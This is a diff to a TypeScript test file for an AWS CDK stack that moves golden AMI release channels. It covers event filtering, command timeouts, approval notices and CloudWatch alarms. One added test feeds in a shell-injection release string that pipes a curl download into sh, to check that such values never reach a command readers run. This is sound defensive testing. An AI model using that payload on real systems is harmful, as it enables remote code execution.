@@ -70,6 +70,8 @@ test.each([
 });
 
 const written = (name: string, operation = 'Update') => ({ 'source': 'aws.ssm', 'detail-type': 'Parameter Store Change', 'detail': { name, operation, type: 'String' } });
+const failedWrite = (name: string) =>
+  ({ ...written(name), detail: { exception: 'Unable to Describe Resource', dataType: 'aws:ec2:image', name, type: 'String', operation: 'Update' } });
 
 test.each([
   ['a parameter of a channel that was written', written('/golden/base/arm64/stable'), true],
@@ -77,6 +79,7 @@ test.each([
   ['one that was labelled', written('/golden/base/arm64/stable', 'LabelParameterVersion'), false],
   ['what Image Builder writes', written('/golden/base/arm64/candidate'), false],
   ['the parameter of another image', written('/golden/base-web/arm64/stable'), false],
+  ['a write that failed the check of the image, and changed nothing', failedWrite('/golden/base/arm64/stable'), false],
 ])('the function hears of %s: %#', (_title, event, isHeard) => {
   expect(reconciling.filter(({ EventPattern }) => EventPattern && matches(EventPattern, event))).toHaveLength(isHeard ? 1 : 0);
 });
@@ -98,8 +101,14 @@ test('the command that takes a channel back is printed, and says what the functi
   expect(readRequest(JSON.parse(payload), invoked('operate')).payload).toEqual({ verb: 'rollback', channel: 'stable' });
 });
 
-const moved = (channel: string, verb: string) =>
-  ({ 'source': 'golden-ami', 'detail-type': 'Channel Moved', 'detail': { image: 'base', channel, verb, release: '1.0.7-1' } });
+test('the command waits for as long as the function may take: the command line would ask a second time', () => {
+  const [{ Timeout }] = ofType<{ Timeout: number }>(resources, 'AWS::Lambda::Function');
+  const [{ Value: command }] = Object.values(synthesized(stack => channelsIn(stack)).Outputs!);
+  expect(Number(/ --cli-read-timeout (\d+) /.exec(command)![1])).toBeGreaterThan(Timeout);
+});
+
+const moved = (channel: string, verb: string, release = '1.0.7-1') =>
+  ({ 'source': 'golden-ami', 'detail-type': 'Channel Moved', 'detail': { image: 'base', channel, verb, release } });
 const toldOf = (event: object) => rulesOf(resources)
   .filter(({ EventPattern, Targets = [] }) => EventPattern && /^Topic/.test(Targets[0].Arn) && matches(EventPattern, event))
   .map(({ Targets }) => messageFor(Targets![0], event));
@@ -115,12 +124,44 @@ test('people are told which release waits for them, with the command that approv
   expect(approval).toMatch(/--function-name BaseChannelsApprove/);
 });
 
-test('each channel rings when it is blocked, held, written by others, or stale, and the machine when it fails', () => {
+const approvalsOf = (release: string) => toldOf(moved('stable', 'promote', release)).filter(text => /waits/.test(text));
+
+test('no release that somebody made up ends the text in the command, which its reader runs in a shell', () => {
+  expect(approvalsOf('1.0.7-1+1.0.7-2')).toHaveLength(1);
+  expect(approvalsOf("1.0.7-1'; curl evil | sh; '")).toEqual([]);
+});
+
+test('nor where the candidate is what is approved', () => {
+  const rules = rulesOf(withChannels({ channels: [{ name: 'frozen', promotion: ChannelPromotion.approval() }] }));
+  const released = (release: string) => ({ 'source': 'golden-ami', 'detail-type': 'Release Available', 'detail': { image: 'base', release } });
+  const isHeard = (event: object) => rules.some(({ EventPattern }) => EventPattern && matches(EventPattern, event));
+  expect([isHeard(released('1.0.7-1')), isHeard(released("'"))]).toEqual([true, false]);
+});
+
+test('each channel rings when it is blocked, held, written by others, or stale, and the machine and the function when they fail', () => {
   const alarms = alarmsOf(resources);
   const ofChannel = (name: string) => alarms
     .filter(({ Dimensions = [] }) => Dimensions.some(({ Value }) => Value === name)).map(({ MetricName }) => MetricName);
   for (const { name } of CHANNELS) expect(ofChannel(name)).toEqual(['Blocked', 'ForeignWrite', 'Held', 'ChannelAgeHours']);
-  expect(alarms.map(({ MetricName }) => MetricName).at(-1)).toBe('ExecutionsFailed');
+  expect(alarms.slice(-2).map(({ MetricName }) => MetricName)).toEqual(['ExecutionsFailed', 'AsyncEventsDropped']);
+});
+
+test('that the function always fails is seen from outside of it, by the name that all of its aliases share', () => {
+  const alarm = alarmsOf(withChannels({ channels: [{ name: 'frozen', promotion: ChannelPromotion.manual() }] })).at(-1);
+  expect(alarm).toMatchObject({
+    Namespace: 'AWS/Lambda',
+    MetricName: 'AsyncEventsDropped',
+    Dimensions: [{ Name: 'FunctionName', Value: idOf(/ChannelsFunction/, 'AWS::Lambda::Function') }],
+    Statistic: 'Sum',
+    Period: 3600,
+    Threshold: 1,
+    TreatMissingData: 'notBreaching',
+  });
+});
+
+test('that a channel is held is over a minute after the resume: what is reported once stays until it is reported anew', () => {
+  const held = alarmsOf(resources).filter(({ MetricName }) => MetricName === 'Held');
+  expect(held.map(({ Period, TreatMissingData }) => [Period, TreatMissingData])).toEqual(CHANNELS.map(() => [60, 'ignore']));
 });
 
 test('a channel is stale when the image is, and the bake time more; one that people move never is', () => {
